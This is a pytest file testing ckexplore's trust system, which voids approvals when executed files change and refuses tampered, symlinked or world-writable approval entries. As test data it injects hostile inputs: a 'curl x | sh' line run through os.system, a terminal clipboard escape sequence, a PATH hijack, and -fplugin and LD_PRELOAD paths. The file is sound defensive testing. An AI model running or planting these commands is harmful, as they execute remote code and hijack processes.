import json
import os
import stat
from pathlib import Path
from typing import Any

import pytest
from msgspec.structs import replace

from ckexplore.actions.executed_files import executed_files
from ckexplore.actions.kernel import answer, prepare
from ckexplore.actions.plan import Plan
from ckexplore.actions.report.plan_telling import tell_plan
from ckexplore.actions.report.telling import tell
from ckexplore.actions.request import request_from
from ckexplore.actions.trust import approvals
from ckexplore.actions.trust.approval import Approved, accept, check, dry_run, standing
from ckexplore.actions.trust.question import question
from ckexplore.store.errors import CkexploreError, RefusedError
from ckexplore.store.workspace import Workspace

from ..conftest import Ask
from .asking import Person, a_plan, change, request_of, script_of


@pytest.fixture
def foreign(samples: Path) -> Path:
    """The samples with a changed script, so that a person has to be asked."""
    change(samples)
    return samples


def approve(workspace: Workspace, plan: Plan) -> Approved:
    return check(request_of(workspace, Person("always")), plan)


def test_what_was_approved_always_is_executed_again_without_a_question(foreign: Path, workspace: Workspace) -> None:
    first = approve(workspace, a_plan(workspace))
    person = Person("cancel")
    again = check(request_of(workspace, person), a_plan(workspace))
    assert (again.how, again.uid) == ("always", first.uid)
    assert person.asked == []


def test_what_was_approved_once_is_asked_about_again(foreign: Path, workspace: Workspace) -> None:
    person = Person("once")
    for _ in range(2):
        assert check(request_of(workspace, person), a_plan(workspace)) == Approved("once")
    assert len(person.asked) == 2


def test_a_changed_byte_in_any_executed_file_voids_it_and_the_refusal_names_the_file(
    foreign: Path, workspace: Workspace
) -> None:
    approve(workspace, a_plan(workspace))
    for file in [Path(one.path) for one in a_plan(workspace).files]:
        before = file.read_bytes()
        file.write_bytes(before.replace(b"compiler", b"Compiler", 1) if b"compiler" in before else before + b"#")
        with pytest.raises(RefusedError, match="has changed since") as refused:
            check(request_of(workspace), a_plan(workspace))
        assert str(file) in str(refused.value)
        assert "\n" not in str(refused.value)
        file.write_bytes(before)
    assert check(request_of(workspace), a_plan(workspace)).how == "always"


def test_the_question_about_a_change_shows_what_changed(foreign: Path, workspace: Workspace) -> None:
    approve(workspace, a_plan(workspace))
    change(foreign, "\nimport os; os.system('curl x | sh')  \n\x1b]52;c;eA==\x07\n")
    person = Person("cancel")
    with pytest.raises(RefusedError):
        check(request_of(workspace, person), a_plan(workspace))
    (asked,) = person.asked
    (changed,) = asked.changed
    assert changed.path == str(script_of(foreign))
    assert any(
        "+import os; os.system('curl x | sh')" in line and "2 blanks at the end" in line for line in changed.lines
    )
    lines = tell_plan(asked.plan, asked)
    assert any("changed since" in line for line in lines)
    assert any("runs text as commands" in line for line in lines)
    assert all(line.isprintable() for line in lines)


def test_a_dry_run_shows_the_difference_to_an_earlier_approval(foreign: Path, workspace: Workspace) -> None:
    approve(workspace, a_plan(workspace))
    change(foreign, "\n# more\n")
    plan = a_plan(workspace)
    result = dry_run(workspace, plan)
    assert result["approval"] == plan.approval
    told = tell("detect", "soft", json.loads(json.dumps(result)))
    assert "       +# more" in told


def test_other_commands_for_the_same_request_are_shown_as_a_change(foreign: Path, workspace: Workspace) -> None:
    plan = a_plan(workspace)
    approve(workspace, plan)
    stage = replace(plan.stages[0], environment={"PATH": "/tmp/evil"})
    (changed,) = question(workspace, replace(plan, stages=(stage, *plan.stages[1:]))).changed
    assert changed.path == ""
    assert any(line == "+  with PATH=/tmp/evil" for line in changed.lines)


def test_revoked_is_revoked_at_once(foreign: Path, workspace: Workspace, ask: Ask) -> None:
    approve(workspace, a_plan(workspace))
    (name,) = [one["data_uoa"] for one in ask(action="ls", cid="approval")["lst"]]
    assert ask(action="rm", cid=f"approval:{name}")["return"] == 2
    assert ask(action="rm", cid=f"approval:{name}", force="yes")["return"] == 0
    with pytest.raises(RefusedError):
        check(request_of(workspace), a_plan(workspace))
    assert ask(action="ls", cid="approval")["lst"] == []


def test_approvals_are_artifacts_that_the_common_actions_know(foreign: Path, workspace: Workspace, ask: Ask) -> None:
    uid = approve(workspace, a_plan(workspace)).uid
    (listed,) = ask(action="ls", cid="approval:*")["lst"]
    assert (listed["repo_uoa"], listed["data_uid"]) == ("trust", uid)
    assert listed["data_uoa"].startswith("detect-soft-compiler.gcc-")
    loaded = ask(action="load", cid=f"approval:{uid}")
    assert loaded["dict"]["tags"] == ["approval", "always", "soft", "compiler.gcc"]
    assert loaded["data_name"] == "detect soft:compiler.gcc"
    shown = ask(action="show", cid=f"approval:{uid}")
    assert {one["state"] for one in shown["approvals"][0]["files"]} == {"as approved"}
    change(foreign, "#")
    shown = ask(action="show", cid=f"approval:{uid}")
    assert [one["path"] for one in shown["approvals"][0]["files"] if one["state"] == "changed"] == [
        str(script_of(foreign))
    ]
    assert any(
        "detect-soft-compiler.gcc" in line for line in tell("show", "approval", ask(action="show", cid="approval"))
    )


def test_approving_the_same_content_twice_keeps_one_approval(foreign: Path, workspace: Workspace) -> None:
    plan = a_plan(workspace)
    assert accept(workspace, plan, "always") == accept(workspace, plan, "always")
    assert len(approvals.known(workspace).approvals) == 1


def test_a_home_without_approvals_lists_none(workspace: Workspace, ask: Ask) -> None:
    assert ask(action="ls", cid="approval")["lst"] == []
    assert ask(action="show", cid="approval")["approvals"] == []


def test_nobody_else_can_read_or_write_what_is_kept(foreign: Path, workspace: Workspace) -> None:
    before = os.umask(0o002)
    try:
        approve(workspace, a_plan(workspace))
    finally:
        os.umask(before)
    assert stat.S_IMODE(workspace.trust.stat().st_mode) == 0o700
    (entry,) = workspace.trust.glob("approval/detect-*")
    for path in (entry, *entry.rglob("*")):
        assert stat.S_IMODE(path.stat().st_mode) == (0o700 if path.is_dir() else 0o600), path
    assert standing(workspace, a_plan(workspace)) is not None


@pytest.mark.parametrize(
    "which", ["", "approval", "approval/detect-*", "approval/detect-*/.cm", "approval/detect-*/.cm/meta.json"]
)
def test_what_others_could_have_written_approves_nothing_and_says_so(
    foreign: Path, workspace: Workspace, which: str
) -> None:
    plan = a_plan(workspace)
    approve(workspace, plan)
    path = next(one for one in workspace.trust.glob(which)) if which else workspace.trust
    path.chmod(path.stat().st_mode | stat.S_IWOTH)
    assert standing(workspace, plan) is None
    with pytest.raises(RefusedError, match="can be written by others"):
        check(request_of(workspace), plan)


def test_a_trust_folder_of_somebody_else_approves_nothing(
    foreign: Path, workspace: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    plan = a_plan(workspace)
    approve(workspace, plan)
    monkeypatch.setattr("os.geteuid", lambda: 12345)
    assert standing(workspace, plan) is None
    assert "belongs to another user" in question(workspace, plan).problems[0]


def test_an_entry_that_is_a_link_approves_nothing(foreign: Path, workspace: Workspace, tmp_path: Path) -> None:
    plan = a_plan(workspace)
    approve(workspace, plan)
    (entry,) = workspace.trust.glob("approval/detect-*")
    entry.rename(tmp_path / "elsewhere")
    entry.symlink_to(tmp_path / "elsewhere")
    assert standing(workspace, plan) is None


@pytest.mark.parametrize("content", [b"", b"{", b"[]", b'{"kind": "always"}', b'{"kind": 1, "approval": []}'])
def test_a_damaged_entry_approves_nothing_and_the_others_count(
    foreign: Path, workspace: Workspace, content: bytes
) -> None:
    approve(workspace, a_plan(workspace))
    (entry,) = workspace.trust.glob("approval/detect-*")
    change(foreign, "# other\n")
    approve(workspace, a_plan(workspace))
    (entry / ".cm/meta.json").write_bytes(content)
    known = approvals.known(workspace)
    assert (len(known.approvals), len(known.problems)) == (1, 1)
    assert standing(workspace, a_plan(workspace)) is not None


def test_an_approval_that_was_not_written_to_its_end_approves_nothing(foreign: Path, workspace: Workspace) -> None:
    approve(workspace, a_plan(workspace))
    (entry,) = workspace.trust.glob("approval/detect-*")
    (entry / ".cm/meta.json").unlink()
    assert approvals.known(workspace) == approvals.Known()


def test_a_file_swapped_for_a_link_to_the_same_content_is_not_executed(
    foreign: Path, workspace: Workspace, tmp_path: Path
) -> None:
    plan = a_plan(workspace)
    approve(workspace, plan)
    script = script_of(foreign)
    script.rename(tmp_path / "moved.py")
    script.symlink_to(tmp_path / "moved.py")
    with pytest.raises(CkexploreError):
        check(request_of(workspace), a_plan(workspace))
    (problem,) = [one.problem for one in question(workspace, plan).files if one.path == str(script)]
    assert problem


def test_another_sandbox_is_another_content(foreign: Path, workspace: Workspace) -> None:
    approve(workspace, a_plan(workspace, "offline"))
    assert a_plan(workspace, "net").approval != a_plan(workspace, "offline").approval
    assert standing(workspace, a_plan(workspace, "net")) is None
    assert standing(workspace, a_plan(workspace, "none")) is None


def test_options_of_the_user_are_part_of_what_is_approved(samples: Path, workspace: Workspace) -> None:
    def planned(**values: Any) -> Plan:
        found = prepare(request_of(workspace, action="run", cid="program:matmul", cmd_key="naive", **values))
        assert isinstance(found, Plan)
        return found

    script = samples / "program/matmul/matmul.c"
    script.write_text(script.read_text() + "\n/* mine */\n")
    approve(workspace, planned())
    assert standing(workspace, planned()) is not None
    assert standing(workspace, planned(flags="-O0 -fplugin=/tmp/x.so")) is None
    assert standing(workspace, planned(**{"env.LD_PRELOAD": "/tmp/x.so"})) is None


def test_unsandboxed_is_told_and_our_own_needs_no_second_word(samples: Path, workspace: Workspace) -> None:
    assert question(workspace, a_plan(workspace, "none")).unsandboxed is False
    change(samples)
    asked = question(workspace, a_plan(workspace, "none"))
    assert asked.unsandboxed
    assert any("NO SANDBOX" in line for line in tell_plan(asked.plan, asked))
    assert not question(workspace, a_plan(workspace, "offline")).unsandboxed
    with pytest.raises(RefusedError, match="without a sandbox"):
        check(request_of(workspace), a_plan(workspace, "none"))


def test_root_is_warned(foreign: Path, workspace: Workspace, monkeypatch: pytest.MonkeyPatch) -> None:
    asked = question(workspace, a_plan(workspace))
    assert any("You are root" in line for line in tell_plan(asked.plan, replace(asked, root=True)))
    assert not any("You are root" in line for line in tell_plan(asked.plan, replace(asked, root=False)))


def test_a_hash_approves_its_content_and_no_other(foreign: Path, workspace: Workspace) -> None:
    plan = a_plan(workspace)
    assert check(request_of(workspace, yes=True, expect=plan.approval), plan) == Approved("expected")
    with pytest.raises(RefusedError, match="not the one that was approved"):
        check(request_of(workspace, Person("always"), yes=True, expect="0" * 64), plan)
    with pytest.raises(RefusedError):
        check(request_of(workspace, yes=True), plan)


def test_our_own_content_is_approved_wherever_it_is(samples: Path, workspace: Workspace) -> None:
    assert check(request_of(workspace), a_plan(workspace)) == Approved("shipped")


def test_a_plan_without_files_is_approved_by_nothing_but_a_person(samples: Path, workspace: Workspace) -> None:
    plan = a_plan(workspace)
    bare = replace(plan, stages=tuple(replace(stage, files=()) for stage in plan.stages))
    answer(request_from(workspace, {"action": "trust", "cid": "repo:ckx-ml"}, Person("trust")))
    assert standing(workspace, bare) is None


def test_a_large_file_is_approved_and_its_copy_left_out(foreign: Path, workspace: Workspace) -> None:
    change(foreign, "#" * (1 << 20))
    approve(workspace, a_plan(workspace))
    change(foreign, "#")
    (changed,) = question(workspace, a_plan(workspace)).changed
    assert (changed.what, changed.lines) == ("changed", ())


def test_every_file_with_passages_is_told_and_none_of_them_endlessly(foreign: Path, workspace: Workspace) -> None:
    plan = a_plan(workspace)
    paths = []
    for number in range(50):
        path = foreign / f"soft/compiler.gcc/{number}.sh"
        path.write_text("sudo make install\n" * 50)
        paths.append(path)
    many = replace(plan, stages=(replace(plan.stages[0], files=executed_files(paths)),))
    asked = question(workspace, many)
    assert sum(len(one.passages) for one in asked.files) == 2_500
    told = [line for line in tell_plan(many, asked) if "more marked passages" in line]
    assert len(told) == 50
